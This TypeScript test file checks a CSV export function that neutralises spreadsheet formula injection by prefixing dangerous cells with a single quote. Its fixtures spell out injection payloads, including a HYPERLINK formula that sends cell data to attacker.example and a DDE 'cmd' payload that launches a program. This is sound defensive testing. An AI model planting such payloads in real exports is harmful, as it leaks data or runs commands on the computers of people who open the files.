/**
 * Formula-safe CSV export (RELIABILITY.md 3.4). The hostile fixture's `name` column holds five
 * formula payloads (shared/data/hostile-inputs/formula-injection.csv, manifest: "any CSV export of
 * these cells starts with a single quote"); we export them and read the file back with PapaParse,
 * as a spreadsheet would see it.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, isFormulaLike, toCsv, type CsvRow } from '../../../src/lib/csv-export.ts';

const HOSTILE = '/work/shared/data/hostile-inputs/formula-injection.csv';

function readBack(csv: string): string[][] {
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('toCsv on shared/data/hostile-inputs/formula-injection.csv', () => {
  const source = Papa.parse<string[]>(readFileSync(HOSTILE, 'utf8'), { header: false, skipEmptyLines: true }).data;
  const header = source[0];
  const rows = Object.freeze(source.slice(1).map((r) => Object.freeze([...r])));
  const nameCol = header.indexOf('name');

  it('the fixture has the five payloads the manifest describes', () => {
    expect(rows.map((r) => r[nameCol])).toEqual([
      '=HYPERLINK("http://attacker.example/?"&B2,"Click")',
      "+SUM(1+1)*cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
    ]);
  });

  it('every dangerous cell comes back prefixed with a single quote, otherwise verbatim', () => {
    const back = readBack(toCsv([header, ...rows]));
    expect(back[0]).toEqual(header);
    expect(back.slice(1).map((r) => r[nameCol])).toEqual([
      '\'=HYPERLINK("http://attacker.example/?"&B2,"Click")',
      "'+SUM(1+1)*cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)",
      "'\t=1+1",
    ]);
    // Harmless cells are untouched: ids, e-mails, ISO dates.
    expect(back[1].slice(0, 2)).toEqual(['C001', 'a@example.com']);
    expect(back[5][3]).toBe('2024-01-19');
  });

  it('the HYPERLINK cell is quoted (RFC 4180) because it holds commas and quotes', () => {
    const line = toCsv([[rows[0][nameCol]]], { bom: false });
    expect(line).toBe('"\'=HYPERLINK(""http://attacker.example/?""&B2,""Click"")"\r\n');
  });
});

describe('csvCell', () => {
  it('keeps numbers as numbers: a negative MRR stays -12.5', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(1234567.25)).toBe('1234567.25');
  });

  it('writes null, undefined, NaN and Infinity as empty cells', () => {
    expect([null, undefined, Number.NaN, Number.POSITIVE_INFINITY].map((v) => csvCell(v))).toEqual(['', '', '', '']);
  });

  it('escapes what Papa.unparse misses: a leading space, a no-break space, full-width ＝ ＋ － ＠', () => {
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\u00a0=1+1')).toBe("'\u00a0=1+1");
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(csvCell('＋1')).toBe("'＋1");
    expect(csvCell('－1')).toBe("'－1");
    expect(csvCell('＠cmd')).toBe("'＠cmd");
  });

  it('escapes a leading CR and NUL, and quotes the CR', () => {
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('\0x')).toBe("'\0x");
  });

  it('leaves text that only contains a sign later alone', () => {
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('Ana Novak')).toBe('Ana Novak');
    expect(csvCell('2024-Q1')).toBe('2024-Q1');
    expect(isFormulaLike('   ')).toBe(false);
  });

  it('quotes the chosen delimiter, quotes and newlines', () => {
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvCell('a;b', ',')).toBe('a;b');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });
});

describe('toCsv', () => {
  it('writes a BOM, CRLF line ends, and Slovenian letters intact', () => {
    const rows: CsvRow[] = [['stranka', 'prihodek'], ['Žiga Šček', 49.9], ['Č', null]];
    expect(toCsv(rows)).toBe('\uFEFFstranka,prihodek\r\nŽiga Šček,49.9\r\nČ,\r\n');
    expect(toCsv(rows, { bom: false, delimiter: ';' })).toBe('stranka;prihodek\r\nŽiga Šček;49.9\r\nČ;\r\n');
  });
});
